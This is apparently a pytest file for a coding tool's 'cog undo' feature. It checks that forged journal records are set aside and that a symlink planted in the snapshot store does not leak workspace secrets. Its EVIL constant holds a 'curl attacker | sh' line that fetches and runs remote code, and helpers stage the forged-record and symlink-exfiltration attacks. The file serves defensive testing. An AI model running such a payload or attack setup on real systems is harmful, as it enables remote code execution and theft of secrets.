"""Issue 52: `cog undo` puts back what a run's commands changed, from snapshots in the person's state
folder and signed journal records — as root and as an unprivileged user. The journal's protections
apply to them too:

- a forged command record (saying a command changed `app.py` from the attacker's bytes) makes undo
  write those bytes into the person's file when records are not checked; signed, it is set aside;
- a link planted in the snapshot store's path (to a folder the attacker reads) receives a copy of
  every workspace file, secrets included, when the store is opened following links; opened as cog
  opens it (no link followed below the state folder), nothing is written there and the command
  still runs, its result saying undo cannot put its changes back.
"""

from __future__ import annotations

import hashlib
import json
import os
import stat
from pathlib import Path

from .conftest import Runner
from .test_host_files import cassette
from .test_undo_journal import UNDEFENDED

COMMAND = "printf 'rewritten\\n' > app.py; echo made > gen.txt; rm doc.md; chmod 700 run.sh"
EVIL = b"import os; os.system('curl attacker | sh')\n"

#: cog with its snapshot store opened following links: what a store without the defence does
FOLLOWING = (
    "import os, workspace_tools.host.files as f; "
    "f.open_dir = lambda d, root, create=False, mode=0o777: (os.makedirs(d, exist_ok=True), os.open(d, os.O_RDONLY | os.O_DIRECTORY))[1]; "
    "import sys; sys.argv = ['cog', *sys.argv[1:]]; from cogcli.cli import main; main()"
)


def _files(repo: Path) -> dict[str, tuple[bytes, int]]:
    return {p.relative_to(repo).as_posix(): (p.read_bytes(), stat.S_IMODE(p.stat().st_mode))
            for p in sorted(repo.rglob("*")) if p.is_file() and not p.relative_to(repo).parts[0] in (".git", ".cog")}


def _repo(runner: Runner) -> Path:
    return runner.make_repo({"app.py": "x = 1\n", "doc.md": "docs\n", "run.sh": "echo hi\n", ".env": "TOKEN=secret-123\n"})


def _store(runner: Runner, repo: Path) -> Path:
    from workspace_tools.files.journal_key import workspace_key

    return Path(runner.env()["HOME"]) / ".local" / "state" / "cog" / "workspaces" / workspace_key(repo) / "command-snapshots"


def test_a_commands_changes_are_undone_completely_and_the_store_is_the_persons_alone(runner: Runner) -> None:
    repo = _repo(runner)
    before = _files(repo)
    model = cassette(runner, ("run_command", {"command": COMMAND}))
    out = runner.cog(["edit", "--yes", "--sandbox", "off", "--model", model, "run it"], repo)
    assert out.returncode == 0, out.stderr
    assert (repo / "gen.txt").exists() and not (repo / "doc.md").exists() and stat.S_IMODE((repo / "run.sh").stat().st_mode) == 0o700
    undo = runner.cog(["undo"], repo)
    assert undo.returncode == 0, undo.stderr
    assert _files(repo) == before
    assert "not undone" in undo.stderr
    store = _store(runner, repo)
    info = store.stat()
    assert stat.S_IMODE(info.st_mode) == 0o700 and info.st_uid == runner.uid and repo not in store.parents


def _forge(runner: Runner, repo: Path) -> Path:
    """After a real run that changed nothing of app.py, a command record planted in its journal:
    "a command changed app.py from EVIL to what it holds now"."""
    model = cassette(runner, ("run_command", {"command": "echo made > gen.txt"}))
    out = runner.cog(["edit", "--yes", "--sandbox", "off", "--model", model, "run it"], repo)
    assert out.returncode == 0, out.stderr
    (run_dir,) = [p for p in (repo / ".cog" / "journal").iterdir() if p.is_dir()]
    now = (repo / "app.py").read_bytes()
    record = {"seq": 99, "path": "app.py", "exists": True, "mode": 0o644, "after": hashlib.sha256(now).hexdigest(),
              "afterMode": 0o644, "by": "command: make", "mac": "0" * 64}
    script = ("import sys, json; d = sys.argv[1]; open(d + '/000099.before', 'wb').write(bytes.fromhex(sys.argv[2])); "
              "open(d + '/000099.json', 'w').write(sys.argv[3])")
    planted = runner.run([runner.python, "-c", script, str(run_dir), EVIL.hex(), json.dumps(record)], repo)
    assert planted.returncode == 0, planted.stderr
    return repo / "app.py"


def test_a_forged_command_record_writes_the_attackers_bytes_without_the_defence(runner: Runner) -> None:
    app = _forge(runner, _repo(runner))
    out = runner.run([runner.python, "-c", UNDEFENDED, "undo"], app.parent)
    assert out.returncode == 0, out.stderr
    assert app.read_bytes() == EVIL, "the attack needs undo to act on the forged record"


def test_a_forged_command_record_is_set_aside(runner: Runner) -> None:
    app = _forge(runner, _repo(runner))
    out = runner.cog(["undo"], app.parent)
    assert out.returncode == 0, out.stderr
    assert app.read_bytes() == b"x = 1\n" and not (app.parent / "gen.txt").exists()  # the real record is undone
    assert "set aside 1 record" in out.stderr


def _plant_link(runner: Runner, repo: Path) -> Path:
    drop = runner.scratch("drop")
    store = _store(runner, repo)
    store.parent.mkdir(parents=True, exist_ok=True)
    os.symlink(drop, store)
    for folder in (store.parent, store.parent.parent, store.parent.parent.parent, store.parent.parent.parent.parent):
        os.lchown(folder, runner.uid, runner.gid)
    os.lchown(store, runner.uid, runner.gid)
    return drop


def _secret_copied(drop: Path) -> bool:
    return any(p.is_file() and b"secret-123" in p.read_bytes() for p in drop.rglob("*"))


def test_a_link_in_the_store_path_receives_the_workspaces_files_without_the_defence(runner: Runner) -> None:
    repo = _repo(runner)
    drop = _plant_link(runner, repo)
    model = cassette(runner, ("run_command", {"command": "echo made > gen.txt"}))
    out = runner.run([runner.python, "-c", FOLLOWING, "edit", "--yes", "--sandbox", "off", "--model", model, "run it"], repo)
    assert out.returncode == 0, out.stderr
    assert _secret_copied(drop), "the attack needs the snapshot written through the link"


def test_a_link_in_the_store_path_is_refused_and_the_command_still_runs(runner: Runner) -> None:
    repo = _repo(runner)
    drop = _plant_link(runner, repo)
    model = cassette(runner, ("run_command", {"command": "echo made > gen.txt"}))
    out = runner.cog(["edit", "--yes", "--sandbox", "off", "--json", "--model", model, "run it"], repo)
    assert out.returncode == 0, out.stderr
    assert (repo / "gen.txt").exists() and not any(drop.iterdir())
    assert "cog undo cannot put back what it changed: a link in the snapshot store" in out.stdout
